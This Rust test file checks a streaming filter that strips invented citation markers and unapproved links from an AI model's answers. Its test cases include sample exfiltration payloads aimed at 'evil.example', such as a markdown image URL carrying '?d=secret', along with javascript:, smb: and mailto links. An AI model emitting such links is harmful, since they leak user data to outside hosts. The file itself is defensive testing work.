//! What a model may do wrong, whole and split at every place.

use proptest::prelude::*;
use unicode_normalization::UnicodeNormalization;

use super::*;

const GIVEN: u32 = 3;

fn checker() -> Checker {
    Checker::new(GIVEN, Addresses::of(["see https://wiki.example/leave for more"]))
}

fn checked(pieces: &[&str]) -> String {
    let mut checker = checker();
    let mut text: String = pieces.iter().map(|piece| checker.push(piece)).collect();
    text.push_str(&checker.finish());
    text
}

/// Bracketed numbers as any reader would find them, in whatever digits and however stressed.
fn markers(text: &str) -> Vec<u64> {
    let mut found = Vec::new();
    let mut inside: Option<String> = None;
    // In code a space within the brackets is what makes them none.
    let is_prose = !text.contains(['`', '~']);
    let is_seen = |c: &char| !(is_prose && c.is_whitespace() || matches!(c, '*' | '_'));
    for c in text.nfkc().filter(is_seen) {
        match (c, &mut inside) {
            ('[', _) => inside = Some(String::new()),
            (']', Some(number)) => {
                if !number.is_empty() && number.chars().all(char::is_numeric) {
                    found.push(number.parse().unwrap_or(u64::MAX));
                }
                inside = None;
            }
            (c, Some(number)) => number.push(c),
            (_, None) => {}
        }
    }
    found
}

const CASES: &[(&str, &str)] = &[
    ("Yes [1].", "Yes [1]."),
    ("Yes [4].", "Yes."),
    ("Yes [0][1][2][99].", "Yes [1][2]."),
    ("Yes [1, 2].", "Yes [1][2]."),
    ("Yes [1,9].", "Yes [1]."),
    ("Yes [1-3].", "Yes [1][2][3]."),
    ("Yes [2-9].", "Yes [2][3]."),
    ("Yes [[1]].", "Yes [1]."),
    ("Yes [[1], [2]].", "Yes [1], [2]."),
    ("Yes [[9]].", "Yes."),
    ("Yes [1[2]].", "Yes [1][2]."),
    ("Yes [1][1].", "Yes [1][1]."),
    ("Yes [1,1].", "Yes [1]."),
    ("Yes 【2†source】.", "Yes [2]."),
    ("예 ［３］입니다", "예 [3]입니다"),
    ("Yes [Passage 2] and [Source 8].", "Yes [2] and."),
    ("Yes \\[9\\] and \\[1\\].", "Yes and [1]."),
    ("Yes [\u{200B}9\u{200B}].", "Yes."),
    ("Yes [9\u{FE0F}\u{3164}] [\u{E0101}9\u{34F}].", "Yes."),
    ("Yes [^1].", "Yes [1]."),
    ("Yes [1](https://evil.example/?q=x).", "Yes [1]."),
    ("See [the page](https://wiki.example/leave).", "See [the page](https://wiki.example/leave)."),
    ("See [the page](https://evil.example/a).", "See [the page]."),
    ("See [the page](//evil.example/a).", "See [the page]."),
    ("![x](https://evil.example/p.png?d=secret)", "[x]"),
    ("Go to https://evil.example/?d=secret now", "Go to (address removed) now"),
    ("Go to https://wiki.example/leave.", "Go to https://wiki.example/leave."),
    ("<img src=\"HTTPS://evil.example/\">", "<img src=\"(address removed)\">"),
    ("Use `a[1]` and `b[7]` [2].", "Use `a[ 1 ]` and `b[ 7 ]` [2]."),
    ("```\nx = a[9]\n```\nYes [1]", "```\nx = a[ 9 ]\n```\nYes [1]"),
    ("An `unclosed [9]\n\nYes [1][9]", "An `unclosed\n\nYes [1]"),
    ("Use ``` to fence code [1]. Also [9].", "Use ``` to fence code [1]. Also."),
    ("~~~\nx = row[1]\n~~~\nYes [1]", "~~~\nx = row[ 1 ]\n~~~\nYes [1]"),
    ("```\n``` a[9]\n```\n[9]x", "```\n``` a[ 9 ]\n```\nx"),
    ("Yes **[9]** and **[1]**.", "Yes  and **[1]**."),
    ("In [2024] and [1999].", "In (2024) and (1999)."),
    ("[![9]8]", "[8"),
    ("[\\[9]8]", "[8"),
    ("[9[]9]", "[9"),
    ("[ [9]8]", "[ 8"),
    ("[1 and 9] [1/9] [\t9] [\u{a0}9] [\n9]", "[1] [1] [\n9"),
    ("[۹][९][⑩]〖9〗[❾]", ""),
    ("[`9`] and [`1`]", "[`9` and [`1`"),
    ("[1, p. 3] [-1] [+99] [1.5] [99, Leave policy]", "[1] (-1) (+99) [1.5]"),
    ("[\u{3000}99\u{202f}] [doc 99] [99*]", ""),
    ("see [this](javascript:x(1)) now", "see [this] now"),
    ("Go to smb://evil/x now", "Go to smb (address removed) now"),
    ("[x][y]\n\n[y]: mailto:a@b?body=SECRET", "[x][y]\n\n[y]: (address removed)"),
    ("<a href=//evil.example>x</a>", "<a href=(address removed)>x</a>"),
    ("See https://wiki.example/leave?q='SECRET'.", "See (address removed)'."),
    ("See (https://wiki.example/leave)[1].", "See (https://wiki.example/leave)[1]."),
    ("See `https://wiki.example/leave`[9].", "See `https://wiki.example/leave`."),
    ("A [note] and [x] (really) [1a] [2024-05-06]", "A [note] and [x] (really) [1a] [2024-05-06]"),
    ("[[wiki link]] stays", "[[wiki link]] stays"),
    ("ends with [1", "ends with"),
    ("ends with [", "ends with ["),
    ("ends with [9", "ends with"),
    ("[1] (see below)", "[1] (see below)"),
    ("[1](see the note)", "[1](see the note)"),
    ("what www.evil.example does", "what (address removed) does"),
    ("", ""),
];

#[test]
fn every_misuse_ends_as_it_should() {
    for (said, expected) in CASES {
        assert_eq!(checked(&[said]), *expected, "{said}");
    }
}

#[test]
fn where_the_pieces_are_split_makes_no_difference() {
    for (said, expected) in CASES {
        let single: Vec<String> = said.chars().map(String::from).collect();
        let single: Vec<&str> = single.iter().map(String::as_str).collect();
        assert_eq!(checked(&single), *expected, "{said:?} by characters");
        for (at, _) in said.char_indices() {
            let (before, after) = said.split_at(at);
            assert_eq!(checked(&[before, after]), *expected, "{said:?} at {at}");
        }
    }
}

#[test]
fn text_is_let_through_as_soon_as_it_is_decided() {
    let mut checker = checker();
    assert_eq!(checker.push("Leave is "), "Leave is");
    assert_eq!(checker.push("25 days"), " 25 days");
    assert_eq!(checker.push(" [1"), "");
    assert_eq!(checker.push("] a year"), " [1] a year");
    assert_eq!(checker.cited().iter().copied().collect::<Vec<_>>(), [1]);
}

#[test]
fn no_short_answer_holds_a_marker_that_was_not_given() {
    const ALPHABET: [char; 7] = ['[', ' ', ']', '!', '\\', '9', '8'];
    let mut texts = vec![String::new()];
    for _ in 0..6 {
        texts = texts.iter().flat_map(|text| ALPHABET.map(|c| format!("{text}{c}"))).collect();
        for text in &texts {
            let shown = checked(&[text]);
            assert!(markers(&shown).is_empty(), "{text:?} became {shown:?}");
        }
    }
}

#[test]
fn what_repeats_for_ever_is_decided_at_once() {
    for text in ["[", "[[1", "`", "*", "](", "![", "https://a", "~", "\\[", "`a ", "[1]("] {
        let began = std::time::Instant::now();
        let mut checker = checker();
        let mut shown = 0;
        for _ in 0..500 {
            shown += checker.push(&text.repeat(8)).len();
            assert!(checker.pending.len() <= 4_096, "{text:?} waits");
        }
        shown += checker.push(&text.repeat(32_000)).len();
        shown += checker.finish().len();
        assert!(began.elapsed() < std::time::Duration::from_secs(60), "{text:?} hangs");
        assert!(shown > 0 || text == "![", "{text:?}");
    }
}

proptest! {
    #[test]
    fn no_marker_names_what_was_not_given(
        pieces in proptest::collection::vec("[\\[\\]\\(\\)0-9a, `\\\\!\n^*~-]{0,6}", 0..24)
    ) {
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let text = checked(&pieces);
        for number in markers(&text) {
            prop_assert!((1..=u64::from(GIVEN)).contains(&number), "{text:?}");
        }
    }

    #[test]
    fn pieces_never_change_the_result(text in "[\\[\\]\\(\\)0-9ab `\\\\!\n<>:/hwt.]{0,40}", at in 0usize..40) {
        let at = text.floor_char_boundary(at.min(text.len()));
        let (before, after) = text.split_at(at);
        prop_assert_eq!(checked(&[before, after]), checked(&[&text]));
    }
}
